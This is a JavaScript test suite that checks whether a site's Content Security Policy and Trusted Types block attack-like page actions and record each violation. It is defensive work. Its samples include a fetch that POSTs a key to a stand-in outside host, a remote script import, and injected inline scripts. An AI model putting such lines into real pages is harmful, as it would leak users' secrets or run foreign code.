// The count of what the policies refused counts: without this test its zero, after every flow of
// every other test, would prove nothing. Each deed here is one that a page under attack would do.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { useSite } from './lib/visit.mjs';

// A directive, and what is done against it. Runs in the page; may throw there.
const DEEDS = {
  'script-src-elem': () => import('https://elsewhere.example/x.js'),
  'style-src-attr': () => document.body.setAttribute('style', 'color: red'),
  'img-src': () => {
    new Image().src = 'https://elsewhere.example/x.png';
  },
  'connect-src': () => fetch('https://elsewhere.example/keys', { method: 'POST', body: 'key' }),
  'font-src': () => new FontFace('x', 'url(https://elsewhere.example/x.woff2)').load(),
  'frame-src': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.example/';
    document.body.append(frame);
  },
  'form-action': () => {
    const form = document.createElement('form');
    form.action = '/somewhere';
    document.body.append(form);
    form.submit();
  },
  'trusted-types': () => window.trustedTypes.createPolicy('mine', {}),
  'require-trusted-types-for': () => {
    document.createElement('script').text = 'window.ran = true';
  },
};

describe('what the policies refuse', () => {
  const site = useSite();

  const opened = async () => {
    const phone = await site.phone();
    await phone.page.goto('/');
    await phone.page.locator('.column h1').waitFor();
    return phone;
  };

  /** What is done in a page may throw there: it was refused, which is wanted. */
  const does = (page, deed) => page.evaluate(`(${deed})()`).catch(() => {});

  /** Looks again for a while: what is asked of the network is refused a little later. */
  async function refusedOn(phone, directive) {
    const about = ({ what }) => what.includes(directive);
    const deadline = Date.now() + 5_000;
    while (Date.now() < deadline) {
      await phone.violations.settle();
      const witnesses = new Set(phone.violations.found.filter(about).map(({ witness }) => witness));
      if (witnesses.has('event') && witnesses.has('issue')) return witnesses;
      await phone.page.waitForTimeout(20);
    }
    throw new Error(`${directive}: ${JSON.stringify(phone.violations.found)}`);
  }

  for (const [directive, deed] of Object.entries(DEEDS)) {
    test(`is counted: ${directive}, by the event and by the browser's own list`, async () => {
      const phone = await opened();
      await does(phone.page, deed);
      await refusedOn(phone, directive);
      assert.equal(await phone.page.evaluate(() => 'ran' in window), false, 'nothing ran');
      await phone.violations.take();
      await phone.close();
    });
  }

  test('is counted when only the console tells: a script that was written into the page', async () => {
    const phone = await opened();
    await does(phone.page, () => {
      const script = document.createElement('script');
      script.append('window.ran = true');
      document.head.append(script);
    });
    const [{ witness, what }] = await phone.violations.take();
    assert.equal(witness, 'console');
    assert.match(what, /TrustedScript/);
    assert.equal(await phone.page.evaluate(() => 'ran' in window), false, 'nothing ran');
    await phone.close();
  });

  test('is counted when the page itself brings an inline script, before any of ours runs', async () => {
    const phone = await site.phone();
    await phone.page.route(`${site.url}/`, async (route) => {
      const answer = await route.fetch();
      const html = (await answer.text()).replace('<head>', '<head><script>window.ran = 1</script>');
      await route.fulfill({ response: answer, body: html });
    });
    await phone.page.goto('/');
    await refusedOn(phone, 'script-src-elem');
    assert.equal(await phone.page.evaluate(() => 'ran' in window), false);
    await phone.violations.take();
    await phone.close();
  });

  test('is counted in another tab too', async () => {
    const phone = await opened();
    const tab = await phone.context.newPage();
    await tab.goto('/');
    await does(tab, DEEDS['style-src-attr']);
    await refusedOn(phone, 'style-src-attr');
    await phone.violations.take();
    await phone.close();
  });

  test('fails the test that used the phone, unless it took them', async () => {
    const phone = await opened();
    await does(phone.page, DEEDS['style-src-attr']);
    await assert.rejects(phone.close(), /the policies of the site were violated/);
  });

  test('is nothing on a page that is only used', async () => {
    const phone = await opened();
    assert.deepEqual(await phone.violations.take(), []);
    await phone.close();
  });

  test('the pages can neither see nor silence the witness', async () => {
    const phone = await opened();
    const seen = await phone.page.evaluate(() => Object.keys(window).filter((key) => /refused/.test(key)));
    assert.deepEqual(seen, []);
    await phone.page.evaluate(() =>
      window.addEventListener('securitypolicyviolation', (event) => event.stopImmediatePropagation(), true),
    );
    await does(phone.page, DEEDS['style-src-attr']);
    await refusedOn(phone, 'style-src-attr');
    await phone.violations.take();
    await phone.close();
  });
});
